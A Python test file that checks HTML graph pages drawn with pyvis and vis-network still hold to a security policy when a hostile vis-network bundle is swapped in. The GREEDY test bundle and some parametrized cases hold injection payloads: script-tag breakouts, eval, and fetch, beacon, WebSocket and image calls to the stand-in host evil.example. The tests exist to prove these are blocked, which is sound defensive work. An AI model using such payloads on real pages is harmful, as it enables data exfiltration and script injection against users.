"""The finished page keeps its contract, whatever pyvis and vis-network are installed."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from importlib.resources import files
from pathlib import Path
from typing import TYPE_CHECKING, Any

import networkx as nx
import pytest

from support.npm import find_package
from support.odd_graphs import cycle, star
from support.page.browser import open_file
from support.page.hostile import HOSTILE
from support.page.hostile_graph import hostile_graph
from support.page.page_contract import contract_violations
from viz import draw_graph
from viz.style import PALETTES

if TYPE_CHECKING:
    from playwright.sync_api import Browser

DRAW = """
import sys, pyvis, networkx
from viz import draw_graph
graph = networkx.DiGraph([(1, kid) for kid in range(2, 42)])
graph.nodes[1]["title"] = "A title"
draw_graph(graph).write(sys.argv[1])
print(pyvis.__file__)
"""
# What a bundle from anywhere may hold: it asks, it speaks markup, it ends its own element.
GREEDY = """
/* </script><script>document.title = "taken"</script> <!--<script> */\r
for (const act of [
  () => fetch("https://evil.example/"),
  () => navigator.sendBeacon("https://evil.example/"),
  () => new WebSocket("wss://evil.example/"),
  () => { document.createElement("img").src = "https://evil.example/"; },
  () => { document.body.innerHTML = "<b>taken</b>"; },
  () => { document.head.append(Object.assign(document.createElement("script"), { text: "1" })); },
  () => { document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "b" })); },
  () => eval("document.title = 'taken'"),
]) { try { Promise.resolve(act()).catch(() => 0); } catch { /* forbidden */ } }
//# sourceMappingURL=https://evil.example/vis.map
"""


def pyvis_with(folder: Path, version: str, script: str) -> Path:
    """A copy of pyvis that brings another vis-network; its folder is one to import from."""
    copy = folder / "pyvis"
    shutil.copytree(str(files("pyvis")), copy)
    lib = copy / "templates" / "lib" / f"vis-{version}"
    lib.mkdir()
    (lib / "vis-network.min.js").write_text(script, encoding="utf-8", newline="")
    return folder


def draw_with(site: Path, page: Path) -> None:
    """Draw a page in a process that imports from `site` first."""
    answer = subprocess.run(
        [sys.executable, "-c", DRAW, str(page)],
        env={**os.environ, "PYTHONPATH": str(site)},
        capture_output=True,
        text=True,
        check=True,
    )
    assert Path(answer.stdout.strip()).is_relative_to(site)


def installed_vis() -> str:
    lib = Path(str(files("pyvis"))) / "templates" / "lib"
    return (lib / "vis-9.1.2" / "vis-network.min.js").read_text(encoding="utf-8")


@pytest.mark.parametrize("graph", [nx.DiGraph(), star(40), cycle(3), hostile_graph()])
def test_a_page_keeps_its_contract(graph: nx.DiGraph[Any]) -> None:
    assert contract_violations(draw_graph(graph, title="".join(HOSTILE)).html) == []


@pytest.mark.parametrize(
    ("changed", "to"),
    [
        ("default-src &#39;none&#39;", "default-src *"),
        ("<header>", "<header onclick=x>"),
        ("<header>", "<header><img src=x>"),
        ("<header>", "<header><a href='https://evil.example/'>x</a>"),
        ("</body>", "<script>1</script></body>"),
        ("use strict", "use stricter"),
        ('id="search"', 'id="find"'),
    ],
)
def test_a_page_that_breaks_its_contract_is_found_out(changed: str, to: str) -> None:
    html = draw_graph(star(3)).html
    assert changed in html
    assert contract_violations(html.replace(changed, to, 1)) != []


@pytest.mark.parametrize("version", ["9.1.13", "10.1.5"])
def test_a_page_with_another_vis_network_keeps_it_and_works(
    browser: Browser, tmp_path: Path, version: str
) -> None:
    bundle = find_package("vis-network", version) / "dist/vis-network.min.js"
    site = pyvis_with(tmp_path / "site", version, bundle.read_text(encoding="utf-8"))
    page = tmp_path / "p.html"
    draw_with(site, page)
    assert contract_violations(page.read_text(encoding="utf-8")) == []
    with open_file(browser, page, fragment="#item=1") as opened:
        opened.panel("1")
        assert opened.colours_at_centre() == {PALETTES["light"]["depth"].split()[0]}
        opened.page.mouse.click(6, 200)
        opened.panel("")
        assert opened.incidents == []
        assert opened.violations() == []


def test_a_vis_network_that_asks_and_speaks_markup_gets_nothing(
    browser: Browser, tmp_path: Path
) -> None:
    site = pyvis_with(tmp_path / "site", "10.0.0", GREEDY + installed_vis())
    page = tmp_path / "p.html"
    draw_with(site, page)
    html = page.read_text(encoding="utf-8")
    assert "evil.example" in html
    assert contract_violations(html) == []
    with open_file(browser, page, fragment="#item=1") as opened:
        assert opened.panel("1").inner_text()
        assert opened.page.title() == "A title"
        assert opened.page.locator("b").count() == 0
        opened.page.locator(".vis-network canvas").wait_for()
        tried = [each for each in opened.incidents if not each.startswith("console")]
        # A request that the policy stopped is told too.
        assert set(tried) <= {"request https://evil.example/"}
        stopped = " ".join(opened.violations())
        for rule in ("connect-src", "img-src", "require-trusted-types-for"):
            assert rule in stopped


def test_the_newest_vis_network_that_pyvis_brings_is_taken(tmp_path: Path) -> None:
    site = pyvis_with(tmp_path / "site", "10.0.0", "/* the tenth */")
    draw_with(site, tmp_path / "p.html")
    assert "/* the tenth */" in (tmp_path / "p.html").read_text(encoding="utf-8")


def test_a_pyvis_without_vis_network_is_said(tmp_path: Path) -> None:
    site = pyvis_with(tmp_path / "site", "10.0.0", "")
    for each in (site / "pyvis" / "templates" / "lib").glob("vis-*"):
        shutil.rmtree(each)
    answer = subprocess.run(
        [sys.executable, "-c", DRAW, str(tmp_path / "p.html")],
        env={**os.environ, "PYTHONPATH": str(site)},
        capture_output=True,
        text=True,
        check=False,
    )
    assert "DrawingError: pyvis is installed without vis-network" in answer.stderr


def test_titles_and_ids_are_data_in_the_blocks() -> None:
    html = draw_graph(star(3), title="</script><b>&").html
    block = html.partition('id="graphload-meta">')[2].partition("</script>")[0]
    assert json.loads(block)["title"] == "</script><b>&"
